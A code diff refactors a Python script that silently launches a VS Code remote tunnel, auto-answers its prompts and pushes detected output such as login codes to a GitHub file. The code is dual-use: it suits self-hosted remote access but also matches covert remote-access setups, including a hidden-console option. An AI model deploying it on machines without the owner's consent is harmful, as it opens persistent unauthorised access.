@@ -1,15 +1,36 @@
 import os
 import platform
 import requests
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
 import tarfile
 import zipfile
 import tempfile
+import shutil
 import base64
 import yaml
 import time
 import re
+import pickle
+import hashlib
+import queue
+import threading
 from datetime import datetime
 import sys
+import locale
+from detector_actions import build_detectors
+
+# Prefer the libyaml C loader, fall back to the pure-Python one
+try:
+    from yaml import CSafeLoader as SafeLoader
+except ImportError:
+    from yaml import SafeLoader
+
+# Multi-pattern keyword matching, falls back to a combined regex
+try:
+    import ahocorasick
+except ImportError:
+    ahocorasick = None
 
 # Windows-specific imports
 if platform.system() == "Windows":
@@ -19,24 +40,121 @@ else:
     import pexpect
 
 # === Load YAMLs ===
+_FROZEN = getattr(sys, 'frozen', False)
+_BASE_PATH = sys._MEIPASS if _FROZEN else os.path.dirname(os.path.abspath(__file__))
+
+def source_digest(filename):
+    with open(os.path.join(_BASE_PATH, filename), 'rb') as file:
+        return hashlib.sha256(file.read()).hexdigest()
+
 def load_yaml(filename):
-    if getattr(sys, 'frozen', False):
-        base_path = sys._MEIPASS
-    else:
-        base_path = os.path.dirname(__file__)
-    filepath = os.path.join(base_path, filename)
-    with open(filepath, 'r') as file:
-        return yaml.safe_load(file)
+    filepath = os.path.join(_BASE_PATH, filename)
+    name = os.path.splitext(filename)[0]
+    with open(filepath, 'rb') as file:
+        source = file.read()
+
+    # Frozen builds ship a pickle pre-baked by compile.py next to the YAML; it is only
+    # used while the bundled YAML is still the one it was baked from, so edits take effect
+    if _FROZEN:
+        baked_path = os.path.join(_BASE_PATH, f"{name}.pkl")
+        if os.path.isfile(baked_path):
+            with open(baked_path, 'rb') as file:
+                baked_digest, data = pickle.load(file)
+            if baked_digest == hashlib.sha256(source).hexdigest():
+                return data
+
+    return yaml.load(source, Loader=SafeLoader)
 
 config = load_yaml("config.yaml")
-detectors = load_yaml("detector.yaml")
+# Bind hot-path config values once instead of looking them up per call
+_DEBUG = bool(config.get("debug", False))
+_GH_TOKEN = config.get("github_token")
+_GH_OWNER = config.get("repo_owner")
+_GH_REPO = config.get("repo_name")
+_GH_BRANCH = config.get("branch")
+_GH_FILE = config.get("target_file")
+
+# === Detector Keyword Matcher ===
+def build_keyword_matcher(entries):
+    """Return a function giving the values whose keyword occurs in a line, in entry order."""
+    entries = [(keyword, value) for keyword, value in entries if keyword]
+    if not entries:
+        return lambda line: []
+
+    if ahocorasick is not None:
+        automaton = ahocorasick.Automaton()
+        for index, (keyword, _) in enumerate(entries):
+            automaton.add_word(keyword, automaton.get(keyword, ()) + (index,))
+        automaton.make_automaton()
+
+        def match(line):
+            hits = set()
+            for _, indexes in automaton.iter(line):
+                hits.update(indexes)
+            return [entries[index][1] for index in sorted(hits)]
+        return match
+
+    # Lookahead so overlapping keywords are all reported; a hit on the longest
+    # keyword at a position also implies every keyword that is a prefix of it
+    own_indexes = {}
+    for index, (keyword, _) in enumerate(entries):
+        own_indexes.setdefault(keyword, []).append(index)
+    indexes_by_keyword = {
+        keyword: [index for other, indexes in own_indexes.items() if keyword.startswith(other) for index in indexes]
+        for keyword in own_indexes
+    }
+    keywords = sorted(indexes_by_keyword, key=len, reverse=True)
+    pattern = re.compile("(?=(" + "|".join(map(re.escape, keywords)) + "))")
+
+    def match(line):
+        hits = set()
+        for found in pattern.finditer(line):
+            hits.update(indexes_by_keyword[found.group(1)])
+        return [entries[index][1] for index in sorted(hits)]
+    return match
+
+# === Detector Dispatch Table ===
+# Frozen builds import the table compile.py generated from detector.yaml, unless the
+# bundled detector.yaml has been edited since the build
+_DETECTORS = None
+if _FROZEN:
+    try:
+        import _detector_gen
+    except ImportError:
+        pass
+    else:
+        if _detector_gen.SOURCE_SHA256 == source_digest("detector.yaml"):
+            _DETECTORS = _detector_gen.DETECTORS
+if _DETECTORS is None:
+    _DETECTORS = build_detectors(load_yaml("detector.yaml"))
+
+match_detectors = build_keyword_matcher((entry[0], entry) for entry in _DETECTORS)
 
 # === Debugging Setup ===
 def debug_print(message):
-    if config.get("debug", False):
+    if _DEBUG:
         timestamp = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
         print(f"[DEBUG] {timestamp} - {message}")
 
+# === Buffered Console Output ===
+# Tunnel lines are collected and written in one call per read chunk instead of a print per line
+OUTPUT_FLUSH_SIZE = 4096
+_OUT_ENCODING = sys.stdout.encoding or 'utf-8'
+_out_buffer = bytearray()
+
+def emit(text):
+    _out_buffer.extend(f"{text}\n".encode(_OUT_ENCODING, errors='replace'))
+    if len(_out_buffer) > OUTPUT_FLUSH_SIZE:
+        flush_output()
+
+def flush_output():
+    if _out_buffer:
+        # Flush pending print() text first so output stays in order
+        sys.stdout.flush()
+        sys.stdout.buffer.write(_out_buffer)
+        sys.stdout.buffer.flush()
+        _out_buffer.clear()
+
 # === Platform-Specific VSCode CLI Path Resolution ===
 def get_platform_download_path():
     system = platform.system()
@@ -67,29 +185,52 @@ def get_paths(commit_id):
     if system == "Windows":
         base_dir = os.path.expanduser(config["extracted_path"])
         cli_bin = os.path.join(base_dir, config["extracted_bin"] + ".exe")
-        archive_path = os.path.join(tempfile.gettempdir(), f"vscode-cli-{commit_id}.zip")
     elif system in ["Linux", "Darwin"]:
         if system == "Linux":
             base_dir = os.path.expanduser(config["extracted_path"])
         else:  # Darwin
             base_dir = os.path.expanduser("~/Library/Application Support/vscode-server")
         cli_bin = os.path.join(base_dir, config["extracted_bin"])
-        archive_path = os.path.join(tempfile.gettempdir(), f"vscode-cli-{commit_id}.tar.gz")
     else:
         raise Exception("Unsupported OS for path setup")
-    return base_dir, cli_bin, archive_path
+    return base_dir, cli_bin
 
 # === ANSI Code Remover ===
-def strip_ansi_codes(text):
-    ansi_escape = re.compile(
-        r'(?:\x1B[@-Z\\-_]|\x1B\[0?[0-9;]*[a-zA-Z]|\x1B\][^\a]*(\a|\x1B\\)|\x1B[P^_].*?\x1B\\)'
-    )
-    return ansi_escape.sub('', text)
+_ANSI_RE = re.compile(
+    r'(?:\x1B[@-Z\\-_]|\x1B\[0?[0-9;]*[a-zA-Z]|\x1B\][^\a]*(\a|\x1B\\)|\x1B[P^_].*?\x1B\\)'
+)
+
+def strip_ansi_codes(text, _sub=_ANSI_RE.sub):
+    return _sub('', text)
+
+# === Shared HTTP Session ===
+# One pooled session so the download and every GitHub call reuse TCP/TLS connections
+_SESSION = requests.Session()
+_SESSION.headers.update({"Accept-Encoding": "gzip", "Connection": "keep-alive"})
+_ADAPTER = HTTPAdapter(pool_connections=4, pool_maxsize=8, max_retries=Retry(total=3, backoff_factor=0.2))
+_SESSION.mount("https://", _ADAPTER)
+_SESSION.mount("http://", _ADAPTER)
 
 # === VSCode CLI Downloader & Extractor ===
+DOWNLOAD_CHUNK_SIZE = 1 << 20
+ZIP_SPOOL_MAX_SIZE = 128 << 20
+EXTRACT_COPY_BUFSIZE = 1 << 20
+
+def _move_extracted(staging_dir, base_dir, staged_bin):
+    """Move a fully extracted archive into base_dir, placing the CLI binary last."""
+    for root, _, files in os.walk(staging_dir):
+        target_root = os.path.join(base_dir, os.path.relpath(root, staging_dir))
+        os.makedirs(target_root, exist_ok=True)
+        for name in files:
+            source = os.path.join(root, name)
+            if source != staged_bin:
+                os.replace(source, os.path.join(target_root, name))
+    # cli_bin existing is what marks the install complete, so it goes in only at the end
+    os.replace(staged_bin, os.path.join(base_dir, os.path.relpath(staged_bin, staging_dir)))
+
 def download_vscode_server(commit_id, quality="stable"):
     platform_path = get_platform_download_path()
-    base_dir, cli_bin, archive_path = get_paths(commit_id)
+    base_dir, cli_bin = get_paths(commit_id)
 
     debug_print(f"Checking if VSCode CLI exists at {cli_bin}")
     if os.path.isfile(cli_bin):
@@ -105,41 +246,52 @@ def download_vscode_server(commit_id, quality="stable"):
 
     debug_print(f"Starting download from URL: {url}")
     print(f"[+] Downloading CLI from: {url}")
-    with requests.get(url, stream=True, timeout=30) as r:
+    with _SESSION.get(url, stream=True, timeout=30) as r:
         r.raise_for_status()
-        with open(archive_path, "wb") as f:
-            for chunk in r.iter_content(8192):
-                f.write(chunk)
-    print(f"[+] Saved archive to {archive_path}")
-    debug_print(f"File downloaded to: {archive_path}")
-
-    debug_print(f"Starting extraction to {base_dir}")
-    print(f"[+] Extracting archive to {base_dir}")
-    if platform.system() == "Windows":
-        with zipfile.ZipFile(archive_path, 'r') as zip_ref:
-            zip_ref.extractall(base_dir)
-    else:  # Linux or Darwin
-        with tarfile.open(archive_path, "r:gz") as tar:
-            tar.extractall(path=base_dir)
-
-    if not os.path.isfile(cli_bin):
-        raise FileNotFoundError(f"[!] Extraction failed: {cli_bin} not found")
-
-    if platform.system() != "Windows":
-        os.chmod(cli_bin, 0o755)
+        r.raw.decode_content = True
+
+        # Extract while downloading instead of saving the archive first. Members land in a
+        # staging dir so a dropped connection never leaves a truncated binary at cli_bin
+        debug_print(f"Starting extraction to {base_dir}")
+        print(f"[+] Extracting archive to {base_dir}")
+        staging_dir = tempfile.mkdtemp(prefix=".extract-", dir=base_dir)
+        try:
+            if platform.system() == "Windows":
+                # Zip needs seeking, so spool it (in memory unless it is large)
+                with tempfile.SpooledTemporaryFile(max_size=ZIP_SPOOL_MAX_SIZE) as spool:
+                    for chunk in r.iter_content(DOWNLOAD_CHUNK_SIZE):
+                        spool.write(chunk)
+                    spool.seek(0)
+                    with zipfile.ZipFile(spool, 'r') as zip_ref:
+                        zip_ref.extractall(staging_dir)
+            else:  # Linux or Darwin
+                # Copy members out in 1 MiB blocks instead of tarfile's default 16 KiB
+                with tarfile.open(fileobj=r.raw, mode="r|gz", copybufsize=EXTRACT_COPY_BUFSIZE) as tar:
+                    tar.extractall(path=staging_dir)
+            debug_print(f"Archive streamed from: {url}")
+
+            staged_bin = os.path.join(staging_dir, os.path.relpath(cli_bin, base_dir))
+            if not os.path.isfile(staged_bin):
+                raise FileNotFoundError(f"[!] Extraction failed: {cli_bin} not found")
+            if platform.system() != "Windows":
+                os.chmod(staged_bin, 0o755)
+            _move_extracted(staging_dir, base_dir, staged_bin)
+        finally:
+            shutil.rmtree(staging_dir, ignore_errors=True)
+
     print(f"[✓] VSCode CLI ready at {cli_bin}")
     debug_print(f"VSCode CLI extracted to: {cli_bin}")
     return cli_bin
 
 # === GitHub Updater ===
-def update_github_file(message, token, repo_owner, repo_name, branch, target_file):
+def update_github_file(messages, token, repo_owner, repo_name, branch, target_file):
     headers = {
         "Authorization": f"token {token}",
         "Accept": "application/vnd.github.v3+json",
     }
     url = f"https://api.github.com/repos/{repo_owner}/{repo_name}/contents/{target_file}?ref={branch}"
     debug_print(f"Fetching file from GitHub: {url}")
-    response = requests.get(url, headers=headers)
+    response = _SESSION.get(url, headers=headers, timeout=30)
 
     if response.status_code != 200:
         print(f"[!] GitHub GET failed: {response.status_code}")
@@ -147,11 +299,14 @@ def update_github_file(message, token, repo_owner, repo_name, branch, target_fil
 
     sha = response.json()["sha"]
     old_content = base64.b64decode(response.json()["content"]).decode(errors='ignore')
-    new_content = old_content + f"\n{message.strip()}\n"
+    new_content = old_content + "".join(f"\n{message.strip()}\n" for message in messages)
     b64_content = base64.b64encode(new_content.encode()).decode()
 
+    summary = messages[0].strip()
+    if len(messages) > 1:
+        summary += f" (+{len(messages) - 1} more)"
     data = {
-        "message": f"Auto-detected: {message.strip()}",
+        "message": f"Auto-detected: {summary}",
         "content": b64_content,
         "sha": sha,
         "branch": branch
@@ -159,7 +314,7 @@ def update_github_file(message, token, repo_owner, repo_name, branch, target_fil
 
     debug_print(f"Updating GitHub file with new content")
     print(f"[+] Updating GitHub file: {url}")
-    put = requests.put(url, headers=headers, json=data)
+    put = _SESSION.put(url, headers=headers, json=data, timeout=30)
     if put.status_code in [200, 201]:
         print("[✓] GitHub file updated successfully.")
         debug_print(f"GitHub file updated successfully at {url}")
@@ -167,128 +322,240 @@ def update_github_file(message, token, repo_owner, repo_name, branch, target_fil
         print(f"[!] GitHub PUT failed: {put.status_code}")
         debug_print(f"GitHub PUT failed with status: {put.status_code}")
 
+# === Background GitHub Uploader ===
+# Detected lines are queued and pushed in batches so the detect loops never block on GitHub
+UPLOAD_BATCH_WINDOW = 1.5
+UPLOAD_BATCH_MAX = 50
+UPLOAD_DRAIN_TIMEOUT = 15
+_UPLOAD_Q = queue.Queue()
+
+def _upload_worker():
+    while True:
+        messages = [_UPLOAD_Q.get()]
+        deadline = time.monotonic() + UPLOAD_BATCH_WINDOW
+        while len(messages) < UPLOAD_BATCH_MAX:
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                break
+            try:
+                messages.append(_UPLOAD_Q.get(timeout=remaining))
+            except queue.Empty:
+                break
+
+        debug_print(f"Uploading batch of {len(messages)} detected line(s)")
+        try:
+            update_github_file(messages, _GH_TOKEN, _GH_OWNER, _GH_REPO, _GH_BRANCH, _GH_FILE)
+        except Exception as e:
+            print(f"[!] GitHub update failed: {e}")
+        finally:
+            for _ in messages:
+                _UPLOAD_Q.task_done()
+
+_uploader = None
+
+def queue_upload(message):
+    # Start the uploader on first use rather than as a side effect of importing main
+    global _uploader
+    if _uploader is None:
+        _uploader = threading.Thread(target=_upload_worker, name="github-uploader", daemon=True)
+        _uploader.start()
+    _UPLOAD_Q.put(message)
+
+def drain_uploads(timeout=UPLOAD_DRAIN_TIMEOUT):
+    """Wait up to timeout seconds for queued uploads and report any left unsent."""
+    with _UPLOAD_Q.all_tasks_done:
+        if not _UPLOAD_Q.unfinished_tasks:
+            return
+        print(f"[+] Waiting up to {timeout}s for {_UPLOAD_Q.unfinished_tasks} pending GitHub upload(s)...")
+        deadline = time.monotonic() + timeout
+        while _UPLOAD_Q.unfinished_tasks:
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                break
+            _UPLOAD_Q.all_tasks_done.wait(remaining)
+        unsent = _UPLOAD_Q.unfinished_tasks
+    if unsent:
+        print(f"[!] Exiting with {unsent} GitHub upload(s) not sent")
+
+# === Pipe Line Reader ===
+def iter_pipe_lines(pipe, chunk_size=65536):
+    """Yield lists of decoded lines from a binary pipe, one list per chunk read."""
+    fd = pipe.fileno()
+    pending = b""
+    while True:
+        chunk = os.read(fd, chunk_size)
+        if not chunk:
+            break
+        complete, newline, pending = (pending + chunk).rpartition(b"\n")
+        if newline:
+            # Split only on \n (like readline) so blank lines are kept
+            lines = complete.decode('utf-8', errors='replace').split("\n")
+            yield [line.removesuffix("\r") for line in lines]
+    if pending:
+        yield [pending.decode('utf-8', errors='replace').removesuffix("\r")]
+
+# === Throttled Action Sender ===
+ACTION_INTERVAL = 0.2
+
+def start_action_sender(handlers):
+    """Run detector actions on a worker thread, spaced ACTION_INTERVAL apart."""
+    # The read loop only queues actions, so it keeps draining output instead of sleeping
+    pending = queue.Queue()
+
+    def worker():
+        next_send = 0.0
+        while True:
+            kind, value, action = pending.get()
+            delay = next_send - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            debug_print(f"Processing action: {action}")
+            handler = handlers.get(kind)
+            if handler:
+                try:
+                    handler(value)
+                except Exception as e:
+                    print(f"[!] Failed to send action {action}: {e}")
+            next_send = time.monotonic() + ACTION_INTERVAL
+
+    threading.Thread(target=worker, name="action-sender", daemon=True).start()
+    return pending.put
+
 # === Main Loop for Windows ===
 def run_and_detect_windows(cli_bin):
     print("[+] Starting VSCode tunnel...")
-    process = subprocess.Popen([cli_bin, "tunnel"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    # A console build shares its console with the child, so Ctrl+C reaches the tunnel too.
+    # Only a windowed build (no console, sys.stdout is None) needs CREATE_NO_WINDOW to
+    # keep Windows from allocating a new console for the child
+    creationflags = subprocess.CREATE_NO_WINDOW if sys.stdout is None else 0
+    process = subprocess.Popen(
+        [cli_bin, "tunnel"],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        bufsize=0,
+        creationflags=creationflags,
+    )
 
-    while True:
-        line = process.stdout.readline()
-        if not line:
-            break
+    # stdin is a binary pipe now, so send the bytes the old text-mode pipe produced:
+    # newlines translated to \r\n and strings in the locale encoding
+    stdin_encoding = locale.getpreferredencoding(False)
+
+    def send_enter(_):
+        process.stdin.write(os.linesep.encode())
+        debug_print("Sent Enter")
+
+    def send_string(value):
+        process.stdin.write(value.encode(stdin_encoding))
+        debug_print(f"Sent string: {value}")
 
-        cleaned = strip_ansi_codes(line.strip())
-        print(f"[>] {cleaned}")
-
-        for detector in detectors.get("detect", []):
-            keyword = detector.get("match")
-            upload = detector.get("upload", False)
-            actions = detector.get("action", [])
-            if keyword and keyword in cleaned:
-                print(f"[✓] Detected match: {keyword}")
-                debug_print(f"Detected match for keyword: {keyword}")
-                if upload:
-                    update_github_file(
-                        message=cleaned,
-                        token=config["github_token"],
-                        repo_owner=config["repo_owner"],
-                        repo_name=config["repo_name"],
-                        branch=config["branch"],
-                        target_file=config["target_file"]
-                    )
-                for action in actions:
-                    debug_print(f"Processing action: {action}")
-                    if action.lower() == "enter":
-                        process.stdin.write("\n")
-                        process.stdin.flush()
-                        debug_print("Sent Enter")
-                    elif action.lower().startswith("string:"):
-                        value = action.split("string:", 1)[1]
-                        process.stdin.write(value)
-                        process.stdin.flush()
-                        debug_print(f"Sent string: {value}")
-                    time.sleep(0.2)
+    send_action = start_action_sender({"enter": send_enter, "string": send_string})
+
+    try:
+        for lines in iter_pipe_lines(process.stdout):
+            for line in lines:
+                cleaned = strip_ansi_codes(line).strip()
+                emit(f"[>] {cleaned}")
+
+                for keyword, upload, actions in match_detectors(cleaned):
+                    # Show detections immediately
+                    flush_output()
+                    print(f"[✓] Detected match: {keyword}")
+                    if _DEBUG:
+                        debug_print(f"Detected match for keyword: {keyword}")
+                    if upload:
+                        queue_upload(cleaned)
+                    for action in actions:
+                        send_action(action)
+            flush_output()
+        print("[!] Process ended")
+    except KeyboardInterrupt:
+        flush_output()
+        print("[X] Interrupted by user")
+
+# === pexpect Line Reader ===
+PARTIAL_LINE_TIMEOUT = 0.1
+
+def iter_child_lines(child, chunk_size=4096):
+    """Yield lists of lines read from a pexpect child, one list per chunk read."""
+    pending = ""
+    while True:
+        try:
+            # Block for new output, but only briefly once a partial line is buffered
+            chunk = child.read_nonblocking(size=chunk_size, timeout=PARTIAL_LINE_TIMEOUT if pending else None)
+        except pexpect.TIMEOUT:
+            # Prompts are not newline-terminated, so hand over the partial line once output pauses
+            yield [pending]
+            pending = ""
+            continue
+        except pexpect.EOF:
+            if pending:
+                yield [pending]
+            return
+        *lines, pending = (pending + chunk).split("\n")
+        yield lines
 
 # === Main Loop for Linux/Darwin using pexpect ===
 def run_and_detect_unix(cli_bin):
     debug_print(f"Starting VSCode tunnel with binary {cli_bin}")
     child = pexpect.spawn(f"{cli_bin} tunnel", encoding='utf-8', timeout=None)
+    # Sends are already throttled by the action sender, drop pexpect's own delays
+    child.delaybeforesend = 0
+    child.delayafterclose = 0
+
+    def send_enter(_):
+        print("[>] Sending Enter")
+        child.send("\r")
+        debug_print("Sent Enter (\\r)")
+
+    def send_arrow(key):
+        name, sequence = key
+        print(f"[>] Sending {name}")
+        child.send(sequence)
+        debug_print(f"Sent {name} ({sequence.encode('unicode_escape').decode()})")
+
+    def send_string(text):
+        print(f"[>] Sending string: {text}")
+        child.send(text)
+        debug_print(f"Sent string: {text}")
+
+    def report_unknown(action):
+        print(f"[!] Unknown action: {action}")
+        debug_print(f"Unknown action: {action}")
+
+    send_action = start_action_sender(
+        {"enter": send_enter, "arrow": send_arrow, "string": send_string, "unknown": report_unknown}
+    )
 
     print("[+] Starting VSCode tunnel...")
-    while True:
-        try:
-            child.expect([r'.+'], timeout=None)
-            line = child.after.strip()
-            cleaned_print_line = strip_ansi_codes(line)
-            if cleaned_print_line.startswith('^[[B'):
-                cleaned_print_line = cleaned_print_line.strip('^[[B')
-                debug_print(f"Debug cleaned line: {cleaned_print_line}")
-            if not line:
-                continue
-
-            print(f"[>] {cleaned_print_line}")
-
-            for detector in detectors.get("detect", []):
-                keyword = detector.get("match")
-                upload = detector.get("upload", False)
-                actions = detector.get("action", [])
-                if keyword and keyword in line:
+    try:
+        for lines in iter_child_lines(child):
+            for line in lines:
+                # Clean once and match on the cleaned text, like the Windows loop
+                cleaned = strip_ansi_codes(line).strip().removeprefix('^[[B')
+                if not cleaned:
+                    continue
+
+                emit(f"[>] {cleaned}")
+
+                for keyword, upload, actions in match_detectors(cleaned):
+                    # Show detections immediately
+                    flush_output()
                     print(f"[✓] Detected match: {keyword}")
-                    debug_print(f"Detected match for keyword: {keyword}")
+                    if _DEBUG:
+                        debug_print(f"Detected match for keyword: {keyword}")
                     if upload:
-                        cleaned_line = strip_ansi_codes(line)
-                        if cleaned_line.startswith('^[[B'):
-                            cleaned_line = cleaned_line.strip('^[[B')
-                            debug_print(f"Debug cleaned line: {cleaned_line}")
-                        update_github_file(
-                            message=cleaned_line,
-                            token=config["github_token"],
-                            repo_owner=config["repo_owner"],
-                            repo_name=config["repo_name"],
-                            branch=config["branch"],
-                            target_file=config["target_file"]
-                        )
+                        queue_upload(cleaned)
                     for action in actions:
-                        debug_print(f"Processing action: {action}")
-                        if action.lower() == "enter":
-                            print("[>] Sending Enter")
-                            child.send("\r")
-                            debug_print("Sent Enter (\\r)")
-                        elif action.lower() == "down":
-                            print("[>] Sending Down")
-                            child.send("\x1b[B")
-                            debug_print("Sent Down (\\x1b[B])")
-                        elif action.lower() == "up":
-                            print("[>] Sending Up")
-                            child.send("\x1b[A")
-                            debug_print("Sent Up (\\x1b[A])")
-                        elif action.lower() == "left":
-                            print("[>] Sending Left")
-                            child.send("\x1b[D")
-                            debug_print("Sent Left (\\x1b[D])")
-                        elif action.lower() == "right":
-                            print("[>] Sending Right")
-                            child.send("\x1b[C")
-                            debug_print("Sent Right (\\x1b[C])")
-                        elif action.lower().startswith("string:"):
-                            text = action.split("string:", 1)[1]
-                            print(f"[>] Sending string: {text}")
-                            child.send(text)
-                            debug_print(f"Sent string: {text}")
-                        else:
-                            print(f"[!] Unknown action: {action}")
-                            debug_print(f"Unknown action: {action}")
-                        time.sleep(0.2)
-
-        except pexpect.EOF:
-            print("[!] Process ended")
-            break
-        except KeyboardInterrupt:
-            print("[X] Interrupted by user")
-            break
-        except Exception as e:
-            print(f"[!] Exception: {e}")
-            break
+                        send_action(action)
+            flush_output()
+        print("[!] Process ended")
+    except KeyboardInterrupt:
+        flush_output()
+        print("[X] Interrupted by user")
+    except Exception as e:
+        flush_output()
+        print(f"[!] Exception: {e}")
 
 # === Main Entry ===
 if __name__ == "__main__":
@@ -299,5 +566,9 @@ if __name__ == "__main__":
         else:  # Linux or Darwin
             run_and_detect_unix(cli)
     except Exception as e:
+        flush_output()
         print(f"[X] Fatal Error: {e}")
-        debug_print(f"Fatal error: {e}")
\ No newline at end of file
+        debug_print(f"Fatal error: {e}")
+    finally:
+        # Give queued uploads a bounded chance to finish before the daemon uploader is torn down
+        drain_uploads()
\ No newline at end of file